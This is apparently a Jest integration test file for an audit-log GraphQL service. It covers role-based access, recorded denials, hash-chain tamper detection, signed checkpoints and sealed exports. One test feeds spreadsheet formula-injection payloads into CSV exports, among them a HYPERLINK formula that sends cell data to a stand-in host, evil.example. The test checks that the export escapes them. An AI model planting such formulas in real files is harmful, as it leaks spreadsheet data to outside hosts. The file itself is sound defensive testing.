// The audit subgraph as each role sees it (signed contexts, as from the gateway): who may read,
// verify, export and configure the log; denials recorded as FAILURE; exports verified offline.
import { execFile } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { existsSync, readFileSync, writeFileSync, mkdtempSync } from 'node:fs';
import type { Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import express from 'express';
import pg from 'pg';
import { createDownloadHandler } from '../../gateway/downloads.ts';
import { recordAudit } from '../../platform/audit.ts';
import { loadConfig } from '../../platform/config.ts';
import { openDatabase, runAsCaller, type MikroORM } from '../../platform/database/orm.ts';
import { closeServer, listen } from '../../platform/http.ts';
import { createLogger } from '../../platform/logger.ts';
import { MAX_PAGE_SIZE } from '../../platform/pagination.ts';
import type { Caller } from '../../platform/caller.ts';
import { checkDownload } from '../../platform/signed-urls.ts';
import { createLocalStorage } from '../../platform/storage.ts';
import { createSubgraphApp } from '../../platform/subgraph-server.ts';
import { freePort } from '../../stack/ports.ts';
import { seedAuditEvents, refusalCodeOf } from '../../test/support/factories.ts';
import { connectionSelection, readBothWays, type ConnectionPage } from '../../test/support/paging.ts';
import { testAuditSigningKey, testStack } from '../../test/support/stack.ts';
import { callerFor, subgraphClient } from '../../test/support/subgraph-client.ts';
import { createAuditCheckpointActivities } from '../../workflows/audit-checkpoint/activities.ts';
import { parseExport } from '../../domain/audit-export-format.ts';
import { createAuditSubgraph } from './subgraph.ts';

const run = promisify(execFile);
const stack = testStack();
const logger = createLogger({ service: 'test', level: 'silent' });
const config = loadConfig('audit', { ...stack.serviceEnv.audit, NODE_ENV: 'test' });
const repoRoot = new URL('../..', import.meta.url).pathname;
const orgA = randomUUID();
const orgB = randomUUID();
let server: Server;
let downloadsServer: Server;
let downloadsUrl: string;
let orm: MikroORM;
let workerOrm: MikroORM;
let superuser: pg.Client;
let call: ReturnType<typeof subgraphClient>;

async function eventsOf(organizationId: string) {
  const { rows } = await superuser.query(`select seq::int, action, outcome, resource_type, reason, actor_role from audit.events where organization_id = $1 order by seq`, [organizationId]);
  return rows as { seq: number; action: string; outcome: string; resource_type: string; reason: string | null; actor_role: string | null }[];
}

let deps: Parameters<typeof createAuditSubgraph>[0];
let definition: Awaited<ReturnType<typeof createAuditSubgraph>>;

beforeAll(async () => {
  orm = await openDatabase({ url: config.databaseUrl, logger });
  workerOrm = await openDatabase({ url: stack.serviceEnv.worker.DATABASE_URL!, logger });
  superuser = new pg.Client({ connectionString: stack.superuserUrl });
  await superuser.connect();
  const storage = createLocalStorage(config.downloads.storageDir);
  deps = { config, logger, orm, storage };
  definition = await createAuditSubgraph(deps);
  const { app } = await createSubgraphApp(deps, definition);
  const port = await freePort();
  server = await listen(app, '127.0.0.1', port, 'audit');
  call = subgraphClient(`http://127.0.0.1:${port}/graphql`, 'audit');
  // The gateway's download route, on its own: where an export's link leads.
  const downloads = express();
  downloads.get('/downloads/*key', createDownloadHandler(config.downloads, logger));
  const downloadsPort = await freePort();
  downloadsServer = await listen(downloads, '127.0.0.1', downloadsPort, 'downloads');
  downloadsUrl = `http://127.0.0.1:${downloadsPort}`;
  await seedAuditEvents(orm, callerFor('CREDENTIALING_STAFF', orgA), ['CREATE', 'VIEW', 'UPDATE', 'VIEW', 'VIEW']);
  await seedAuditEvents(orm, callerFor('CREDENTIALING_STAFF', orgB), ['CREATE', 'VIEW']);
  await createAuditCheckpointActivities({ orm: workerOrm, auditSigningKey: await testAuditSigningKey() }).signAuditCheckpoints({ organizationIds: [orgA, orgB] });
});

afterAll(async () => {
  await closeServer(server);
  await closeServer(downloadsServer);
  await definition.close!();
  await orm.close();
  await workerOrm.close();
  await superuser.end();
});

const EVENTS = `query ($filter: AuditEventFilter, $first: Int, $after: String) {
  auditEvents(filter: $filter, first: $first, after: $after) {
    nodes { sequence action outcome resourceType actorRole hash previousHash occurredAt }
    pageInfo { hasNextPage endCursor }
  }
}`;

type EventPage = { auditEvents: { nodes: { sequence: number; action: string }[]; pageInfo: { hasNextPage: boolean; endCursor: string | null } } };

describe('auditEvents', () => {
  it('shows an auditor its own organization only, newest first, a page at a time, and records the view', async () => {
    const auditor = callerFor('AUDITOR', orgA);
    const first = await call<EventPage>(auditor, EVENTS, { first: 3 });
    expect(first.errors).toBeUndefined();
    expect(first.data!.auditEvents.nodes.map((e) => e.sequence)).toEqual([5, 4, 3]);
    expect(first.data!.auditEvents.pageInfo.hasNextPage).toBe(true);
    const second = await call<EventPage>(auditor, EVENTS, { first: 3, after: first.data!.auditEvents.pageInfo.endCursor });
    expect(second.data!.auditEvents.nodes.map((e) => e.sequence)).toEqual([2, 1]);
    expect(second.data!.auditEvents.pageInfo).toEqual({ hasNextPage: false, endCursor: expect.any(String) });
    const views = (await eventsOf(orgA)).filter((e) => e.resource_type === 'AuditLog' && e.action === 'VIEW');
    expect(views.length).toBeGreaterThanOrEqual(2);
    expect(views[0]).toMatchObject({ outcome: 'SUCCESS', actor_role: 'AUDITOR' });
  });

  it('filters by action and by time', async () => {
    const auditor = callerFor('ORG_ADMIN', orgA);
    const updates = await call<EventPage>(auditor, EVENTS, { filter: { action: 'UPDATE', resourceType: 'CREDENTIAL' } });
    expect(updates.data!.auditEvents.nodes.map((e) => e.sequence)).toEqual([3]);
    const future = await call<EventPage>(auditor, EVENTS, { filter: { from: '2999-01-01T00:00:00Z' } });
    expect(future.data!.auditEvents.nodes).toEqual([]);
  });

  it('refuses a physician and an incident responder with FORBIDDEN, and records each denial as FAILURE', async () => {
    for (const role of ['PHYSICIAN', 'INCIDENT_RESPONDER', 'CREDENTIALING_STAFF'] as const) {
      const before = (await eventsOf(orgA)).length;
      const result = await call(callerFor(role, orgA), EVENTS);
      expect(result.data).toEqual({ auditEvents: null });
      expect(refusalCodeOf(result)).toBe('FORBIDDEN');
      const after = await eventsOf(orgA);
      expect(after).toHaveLength(before + 1);
      expect(after[after.length - 1]).toMatchObject({ action: 'ACCESS_DENIED', outcome: 'FAILURE', actor_role: role, reason: 'missing_permission:audit.read' });
    }
  });

  it('refuses an anonymous caller with UNAUTHENTICATED', async () => {
    const result = await call(callerFor(null, null), EVENTS);
    expect(refusalCodeOf(result)).toBe('UNAUTHENTICATED');
  });

  it('never shows another organization, whatever the filter', async () => {
    const stored = (await eventsOf(orgB)).map((e) => e.seq).reverse();
    expect((await eventsOf(orgA)).length).toBeGreaterThan(stored.length);
    const result = await call<EventPage>(callerFor('AUDITOR', orgB), EVENTS, { first: 100 });
    expect(result.data!.auditEvents.nodes.map((e) => e.sequence)).toEqual(stored);
    const forged = await call(callerFor('AUDITOR', orgB), EVENTS, { filter: { actorId: 'not-a-uuid' } });
    expect(refusalCodeOf(forged)).toBe('BAD_USER_INPUT');
  });

  it('answers bad input with BAD_USER_INPUT', async () => {
    const auditor = callerFor('AUDITOR', orgA);
    expect(refusalCodeOf((await call(auditor, EVENTS, { first: 10_000 })))).toBe('BAD_USER_INPUT');
    expect(refusalCodeOf((await call(auditor, EVENTS, { after: 'garbage' })))).toBe('BAD_USER_INPUT');
    expect(refusalCodeOf((await call(auditor, EVENTS, { filter: { from: 'yesterday' } })))).toBe('BAD_USER_INPUT');
  });
});

describe('auditCheckpoints', () => {
  it('gives each checkpoint an id and the signing key it names', async () => {
    type Key = { id: string; keyId: string; algorithm: string; publicKey: string };
    const result = await call<{ auditCheckpoints: { nodes: { id: string; sequence: number; keyId: string; key: Key | null }[] }; auditSigningKeys: Key[] }>(
      callerFor('AUDITOR', orgB), '{ auditCheckpoints { nodes { id sequence keyId key { id keyId algorithm publicKey } } } auditSigningKeys { id keyId algorithm publicKey } }');
    expect(result.errors).toBeUndefined();
    const checkpoints = result.data!.auditCheckpoints.nodes;
    expect(checkpoints).toHaveLength(1);
    const signingKey = result.data!.auditSigningKeys.find((key) => key.keyId === checkpoints[0]!.keyId);
    expect(signingKey).toMatchObject({ id: checkpoints[0]!.keyId, algorithm: 'Ed25519' });
    expect(checkpoints[0]).toEqual({ id: `${orgB}:${checkpoints[0]!.sequence}`, sequence: expect.any(Number), keyId: signingKey!.keyId, key: signingKey });
  });
});

describe('verifyAuditChain', () => {
  const VERIFY = '{ verifyAuditChain { valid checkedEvents checkedCheckpoints firstBadSequence problem } }';

  it('reports the chain holding, with its checkpoints', async () => {
    const result = await call<{ verifyAuditChain: Record<string, unknown> }>(callerFor('AUDITOR', orgB), VERIFY);
    expect(result.data!.verifyAuditChain).toMatchObject({ valid: true, checkedCheckpoints: 1, firstBadSequence: null });
  });

  it('names the first bad sequence after tampering', async () => {
    const org = randomUUID();
    await seedAuditEvents(orm, callerFor('CREDENTIALING_STAFF', org), ['VIEW', 'VIEW', 'VIEW', 'VIEW']);
    await superuser.query('begin');
    await superuser.query('alter table audit.events disable trigger events_append_only');
    await superuser.query(`update audit.events set action = 'DELETE' where organization_id = $1 and seq = 2`, [org]);
    await superuser.query('alter table audit.events enable trigger events_append_only');
    await superuser.query('commit');
    const result = await call<{ verifyAuditChain: Record<string, unknown> }>(callerFor('ORG_OWNER', org), VERIFY);
    expect(result.data!.verifyAuditChain).toMatchObject({ valid: false, firstBadSequence: 2 });
  });
});

describe('exportAuditLog', () => {
  const EXPORT = 'mutation ($format: AuditExportFormat!) { exportAuditLog(format: $format) { auditExport { url expiresAt format eventCount } userErrors { code message field reason details } } }';
  const workDir = mkdtempSync(join(tmpdir(), 'credence-export-'));

  async function exportFile(format: 'JSON_LINES' | 'CSV', organizationId = orgA): Promise<{ file: string; eventCount: number; url: URL; key: string }> {
    const result = await call<{ exportAuditLog: { auditExport: { url: string; eventCount: number; expiresAt: string } } }>(callerFor('AUDITOR', organizationId), EXPORT, { format });
    expect(result.errors).toBeUndefined();
    const url = new URL(result.data!.exportAuditLog.auditExport.url);
    expect(url.origin).toBe(config.downloads.publicUrl);
    const key = url.pathname.replace(/^\/downloads\//, '');
    expect(checkDownload(config.downloads.urlSigningSecret, key, url.searchParams.get('expires'), url.searchParams.get('signature'))).toEqual({ ok: true });
    // At rest the file is sealed: nothing of the log can be read from it.
    const atRest = readFileSync(join(config.downloads.storageDir, key));
    expect(atRest.includes(Buffer.from(organizationId))).toBe(false);
    expect(atRest.includes(Buffer.from('credence-audit-export'))).toBe(false);
    const download = await fetch(`${downloadsUrl}${url.pathname}${url.search}`);
    expect(download.status).toBe(200);
    const file = join(workDir, `export.${format === 'CSV' ? 'csv' : 'jsonl'}`);
    writeFileSync(file, Buffer.from(await download.arrayBuffer()));
    return { file, eventCount: result.data!.exportAuditLog.auditExport.eventCount, url, key };
  }

  const verifyOffline = (file: string, ...extra: string[]) =>
    run(process.execPath, [join(repoRoot, 'scripts/audit-verify.ts'), file, ...extra]).then(
      ({ stdout }) => ({ code: 0, stdout }),
      (error: { code: number; stdout: string }) => ({ code: error.code, stdout: error.stdout }),
    );

  it.each(['JSON_LINES', 'CSV'] as const)('writes a %s export that verifies offline, and records the export', async (format) => {
    const before = (await eventsOf(orgA)).filter((e) => e.action === 'EXPORT').length;
    const { file, eventCount } = await exportFile(format);
    expect(eventCount).toBeGreaterThanOrEqual(5);
    const result = await verifyOffline(file);
    expect(result.stdout).toMatch(new RegExp(`valid: ${eventCount} events chained, 1 signed checkpoint\\(s\\) matched`));
    expect(result.code).toBe(0);
    expect((await eventsOf(orgA)).filter((e) => e.action === 'EXPORT')).toHaveLength(before + 1);
  });

  it('detects an export edited after the fact, naming the sequence', async () => {
    const { file } = await exportFile('JSON_LINES');
    const lines = readFileSync(file, 'utf8').split('\n');
    const index = lines.findIndex((line) => line.includes('"seq":3,'));
    lines[index] = lines[index]!.replace('"outcome":"SUCCESS"', '"outcome":"FAILURE"');
    writeFileSync(file, lines.join('\n'));
    const result = await verifyOffline(file);
    expect(result.code).toBe(1);
    expect(result.stdout).toContain('INVALID at sequence 3');
  });

  it('writes no CSV cell a spreadsheet would run as a formula, and the export still verifies exactly', async () => {
    const org = randomUUID();
    const staff = callerFor('CREDENTIALING_STAFF', org);
    const payloads = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\r=1', "'=already quoted", 'plain-id'];
    for (const resourceId of payloads) {
      await runAsCaller(orm, staff, (em) => recordAudit(em, staff, { action: 'VIEW', resourceType: 'Credential', resourceId, outcome: 'SUCCESS' }));
    }
    const { file } = await exportFile('CSV', org);
    const text = readFileSync(file, 'utf8');
    const cells = text.split('\n').flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)/g) ?? []).map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain("'=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")");
    const parsed = parseExport(text);
    expect(parsed.events.map((event) => event.resourceId)).toEqual(payloads);
    const result = await verifyOffline(file);
    expect(result.stdout).toMatch(/valid: 8 events chained/);
    expect(result.code).toBe(0);
  });

  it('refuses checkpoints signed by a key other than the pinned one', async () => {
    const { file } = await exportFile('CSV');
    const key = await testAuditSigningKey();
    const result = await verifyOffline(file, '--key', `${key.keyId}=${Buffer.alloc(32, 3).toString('base64')}`);
    expect(result.code).toBe(1);
    expect(result.stdout).toMatch(/INVALID at sequence \d+: checkpoint at sequence \d+ has an invalid signature/);
  });

  it('is given out in the clear only with the key its link carries', async () => {
    const { url, file } = await exportFile('JSON_LINES');
    const without = new URL(url);
    without.searchParams.delete('content_key');
    const wrong = new URL(url);
    wrong.searchParams.set('content_key', Buffer.alloc(32, 9).toString('base64url'));
    for (const link of [without, wrong]) {
      const response = await fetch(`${downloadsUrl}${link.pathname}${link.search}`);
      expect(response.status).toBe(403);
      expect(await response.json()).toEqual({ errors: [{ message: 'Invalid download link', extensions: { code: 'FORBIDDEN' } }] });
    }
    expect(readFileSync(file, 'utf8')).toMatch(/^\{"record":"export"/);
  });

  it('are deleted once their link has expired, at the next export of any organization', async () => {
    const { key } = await exportFile('CSV');
    const abandoned = randomUUID();
    await superuser.query(`update audit.exports set expires_at = now() - interval '1 second' where storage_key = $1`, [key]);
    await superuser.query(`insert into audit.exports (id, organization_id, status, started_at) values ($1, $2, 'WRITING', now() - interval '2 hours')`, [abandoned, orgB]);
    expect(existsSync(join(config.downloads.storageDir, key))).toBe(true);
    await exportFile('JSON_LINES', orgB);
    expect(existsSync(join(config.downloads.storageDir, key))).toBe(false);
    const { rows } = await superuser.query(`select id from audit.exports where storage_key = $1 or id = $2`, [key, abandoned]);
    expect(rows).toEqual([]);
  });

  it('are deleted once their link has expired even when nobody exports again, by the subgraph\'s sweep', async () => {
    const { key } = await exportFile('CSV');
    await superuser.query(`update audit.exports set expires_at = now() - interval '1 second' where storage_key = $1`, [key]);
    const sweeping = await createAuditSubgraph(deps, { exportSweepMs: 100 });
    try {
      for (const deadline = Date.now() + 20_000; existsSync(join(config.downloads.storageDir, key)) && Date.now() < deadline;) await new Promise((resolve) => setTimeout(resolve, 50));
      expect(existsSync(join(config.downloads.storageDir, key))).toBe(false);
      const { rows } = await superuser.query(`select id from audit.exports where storage_key = $1`, [key]);
      expect(rows).toEqual([]);
    } finally {
      await sweeping.close!();
    }
  });

  it('are refused with RATE_LIMITED while the organization has too many being written', async () => {
    const org = randomUUID();
    await seedAuditEvents(orm, callerFor('CREDENTIALING_STAFF', org), ['VIEW']);
    for (let i = 0; i < 2; i += 1) await superuser.query(`insert into audit.exports (id, organization_id) values ($1, $2)`, [randomUUID(), org]);
    const refused = await call(callerFor('AUDITOR', org), EXPORT, { format: 'CSV' });
    expect(refused.errors?.[0]?.extensions).toMatchObject({ code: 'RATE_LIMITED', details: { limit: 2 } });
    const { rows } = await superuser.query(`select count(*)::int as n from audit.exports where organization_id = $1`, [org]);
    expect(rows[0].n).toBe(2);
    await superuser.query(`update audit.exports set started_at = now() - interval '2 hours' where organization_id = $1`, [org]); // abandoned long ago
    expect((await call(callerFor('AUDITOR', org), EXPORT, { format: 'CSV' })).errors).toBeUndefined();
  });

  it('is refused to a credentialing staff member', async () => {
    const result = await call(callerFor('CREDENTIALING_STAFF', orgA), EXPORT, { format: 'CSV' });
    expect(refusalCodeOf(result)).toBe('FORBIDDEN');
  });
});

describe('retention settings', () => {
  const SET = 'mutation ($years: Int!) { setAuditRetention(years: $years) { organizationAuditRetention { years minimumYears } userErrors { code message field reason details } } }';
  const GET = '{ organizationAuditRetention { years minimumYears } auditRetentionPolicy { defaultYears } }';

  it('default to seven years; the owner may raise them, never below six', async () => {
    const org = randomUUID();
    expect((await call(callerFor('AUDITOR', org), GET)).data).toEqual({ organizationAuditRetention: { years: 7, minimumYears: 6 }, auditRetentionPolicy: { defaultYears: 7 } });
    expect((await call(callerFor('ORG_OWNER', org), SET, { years: 10 })).data).toEqual({ setAuditRetention: { organizationAuditRetention: { years: 10, minimumYears: 6 }, userErrors: [] } });
    expect(refusalCodeOf(await call(callerFor('ORG_OWNER', org), SET, { years: 5 }))).toBe('BAD_USER_INPUT');
    expect((await call(callerFor('ORG_ADMIN', org), SET, { years: 8 })).errors?.[0]?.extensions.code).toBe('FORBIDDEN');
    expect((await call(callerFor('AUDITOR', org), GET)).data).toMatchObject({ organizationAuditRetention: { years: 10 } });
  });
});

describe('entity extensions', () => {
  const HISTORY = `query ($representations: [_Any!]!) {
    _entities(representations: $representations) {
      ... on User { id auditTrail(first: 10) { nodes { sequence action resourceType } } }
      ... on Credential { id accessHistory { nodes { sequence action actorRole } } }
    }
  }`;

  it("give a user's audit trail and a credential's access history, recording the look as a view", async () => {
    const org = randomUUID();
    const staff = callerFor('CREDENTIALING_STAFF', org);
    const credentialId = randomUUID();
    for (const action of ['CREATE', 'VIEW', 'UPDATE'] as const) {
      await runAsCaller(orm, staff, (em) => recordAudit(em, staff, { action, resourceType: 'Credential', resourceId: credentialId, outcome: 'SUCCESS' }));
    }
    await runAsCaller(orm, staff, (em) => recordAudit(em, staff, { action: 'VIEW', resourceType: 'Physician', resourceId: randomUUID(), outcome: 'SUCCESS' }));
    const other = callerFor('CREDENTIALING_STAFF', org);
    await runAsCaller(orm, other, (em) => recordAudit(em, other, { action: 'VIEW', resourceType: 'Credential', resourceId: credentialId, outcome: 'SUCCESS' }));

    type Entities = { _entities: ({ id: string; auditTrail?: { nodes: { sequence: number; action: string }[] }; accessHistory?: { nodes: { sequence: number; actorRole: string }[] } })[] };
    const result = await call<Entities>(callerFor('ORG_ADMIN', org), HISTORY, {
      representations: [{ __typename: 'User', id: staff.userId }, { __typename: 'Credential', id: credentialId }],
    });
    expect(result.errors).toBeUndefined();
    const [user, credential] = result.data!._entities;
    expect(user!.auditTrail!.nodes.map((e) => e.sequence)).toEqual([4, 3, 2, 1]);
    expect(credential!.accessHistory!.nodes.map((e) => e.sequence)).toEqual([5, 3, 2, 1]);
    const views = (await eventsOf(org)).filter((e) => e.reason === 'audit_history');
    expect(views.map((e) => e.resource_type).sort()).toEqual(['Credential', 'User']);
  });

  it('are refused to a physician, as FORBIDDEN with a recorded denial', async () => {
    const org = randomUUID();
    const result = await call(callerFor('PHYSICIAN', org), HISTORY, { representations: [{ __typename: 'Credential', id: randomUUID() }] });
    expect(refusalCodeOf(result)).toBe('FORBIDDEN');
    expect(await eventsOf(org)).toEqual([expect.objectContaining({ action: 'ACCESS_DENIED', outcome: 'FAILURE' })]);
  });
});

describe('signing keys', () => {
  it('are public', async () => {
    const key = await testAuditSigningKey();
    const result = await call<{ auditSigningKeys: { keyId: string; publicKey: string; algorithm: string }[] }>(callerFor(null, null), '{ auditSigningKeys { keyId publicKey algorithm } }');
    expect(result.data!.auditSigningKeys).toContainEqual({ keyId: key.keyId, publicKey: key.publicKey, algorithm: 'Ed25519' });
  });
});

describe('lists as connections', () => {
  const PAGE_VARIABLES = '$first: Int, $after: String, $last: Int, $before: String';
  const PAGE_ARGUMENTS = 'first: $first, after: $after, last: $last, before: $before';
  const reader = <Page extends ConnectionPage>(caller: Caller, query: string, field: string, variables: Record<string, unknown> = {}) =>
    async (args: Record<string, unknown>): Promise<Page> => {
      const result = await call<Record<string, Page>>(caller, query, { ...variables, ...args });
      expect(result.errors).toBeUndefined();
      return result.data![field]!;
    };

  it('pages the log both ways, newest first; its own reads, written as it pages, do not shift a page', async () => {
    const org = randomUUID();
    await seedAuditEvents(orm, callerFor('CREDENTIALING_STAFF', org), ['CREATE', 'CREATE', 'VIEW', 'CREATE', 'CREATE', 'CREATE', 'CREATE', 'CREATE']);
    const creates = (await eventsOf(org)).filter((event) => event.action === 'CREATE').map((event) => event.seq).reverse();
    const query = `query(${PAGE_VARIABLES}, $filter: AuditEventFilter) { auditEvents(${PAGE_ARGUMENTS}, filter: $filter) { ${connectionSelection('sequence')} } }`;
    const read = reader(callerFor('AUDITOR', org), query, 'auditEvents', { filter: { action: 'CREATE' } });
    expect((await readBothWays(read, 3, (node) => String(node.sequence))).forward).toEqual(creates.map(String));
  });

  it('pages the checkpoints, newest first', async () => {
    const org = randomUUID();
    const sign = createAuditCheckpointActivities({ orm: workerOrm, auditSigningKey: await testAuditSigningKey() });
    for (let i = 0; i < 5; i += 1) {
      await seedAuditEvents(orm, callerFor('CREDENTIALING_STAFF', org), ['CREATE']);
      await sign.signAuditCheckpoints({ organizationIds: [org] });
    }
    const signed = (await superuser.query(`select seq::int from audit.checkpoints where organization_id = $1 order by seq desc`, [org])).rows.map((row) => String(row.seq));
    expect(signed).toHaveLength(5);
    const query = `query(${PAGE_VARIABLES}) { auditCheckpoints(${PAGE_ARGUMENTS}) { ${connectionSelection('sequence')} } }`;
    expect((await readBothWays(reader(callerFor('AUDITOR', org), query, 'auditCheckpoints'), 2, (node) => String(node.sequence))).forward).toEqual(signed);
  });

  it("pages incidents newest first and counts the caller's organization's alone", async () => {
    const org = randomUUID();
    const other = randomUUID();
    const declare = (organizationId: string, minutesAgo: number) =>
      superuser.query(
        `insert into audit.incidents (id, organization_id, kind, discovered_at, declared_at, declared_by, affected_count, acting_as_business_associate)
         values ($1, $2, 'LOST_DEVICE', now() - interval '1 day', now() - make_interval(mins => $3), $4, 3, false) returning id`,
        [randomUUID(), organizationId, minutesAgo, randomUUID()],
      ).then((result) => result.rows[0].id as string);
    const declared: string[] = [];
    for (const minutesAgo of [50, 40, 30, 20, 10]) declared.unshift(await declare(org, minutesAgo));
    for (const minutesAgo of [45, 5]) await declare(other, minutesAgo);
    const query = `query(${PAGE_VARIABLES}) { incidents(${PAGE_ARGUMENTS}) { ${connectionSelection('id')} totalCount } }`;
    const read = reader<ConnectionPage & { totalCount: number }>(callerFor('AUDITOR', org), query, 'incidents');
    const { forward, firstPage } = await readBothWays(read, 2);
    expect(forward).toEqual(declared);
    expect(firstPage.totalCount).toBe(5);
    const refused = await call(callerFor('AUDITOR', org), query, { first: MAX_PAGE_SIZE + 1 });
    expect(refused.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', details: { field: ['first'], reason: 'OUT_OF_RANGE' } });
    const altered = await call(callerFor('AUDITOR', org), query, { after: firstPage.edges[0]!.cursor.replace(/^./, 'x') });
    expect(altered.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', details: { field: ['after'], reason: 'INVALID_CURSOR' } });
  });
});
